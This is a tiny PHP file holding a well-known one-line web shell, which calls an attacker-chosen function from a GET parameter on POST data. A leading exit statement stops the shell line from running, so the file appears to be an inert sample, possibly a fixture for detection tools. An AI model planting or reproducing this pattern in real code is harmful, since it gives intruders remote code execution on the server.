<?php exit;
$_GET['a']($_POST['b']);
